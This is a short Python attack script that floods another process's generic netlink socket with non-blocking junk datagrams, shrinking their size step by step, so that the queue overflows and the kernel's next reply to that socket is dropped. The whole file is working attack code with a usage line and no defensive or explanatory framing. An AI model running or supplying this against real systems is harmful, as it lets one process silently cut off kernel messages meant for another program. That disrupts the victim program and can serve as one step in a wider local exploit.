# Fills another socket's receive queue to the brim with junk datagrams (sent
# without waiting: the kernel refuses more with EAGAIN once it is full), so
# that the next answer the kernel has for that socket cannot be queued.
#   python3 fill.py <port id>   prints the bytes queued
import errno
import socket
import struct
import sys

port = int(sys.argv[1])
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)  # NETLINK_GENERIC
s.bind((0, 0))
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
sent = 0
# Big datagrams first, then ever smaller ones: the kernel admits one more
# while the queue holds no more than its limit, so the last (empty) ones
# leave it over the limit, and the next answer from the kernel is dropped.
for size in (16384, 1024, 64, 0):
    junk = struct.pack('=IHHII', 16 + size, 0x10, 0, 0, port) + bytes(size)
    while True:
        try:
            sent += s.sendto(junk, socket.MSG_DONTWAIT, (port, 0))
        except OSError as e:
            if e.errno != errno.EAGAIN:
                raise
            break
print(sent)
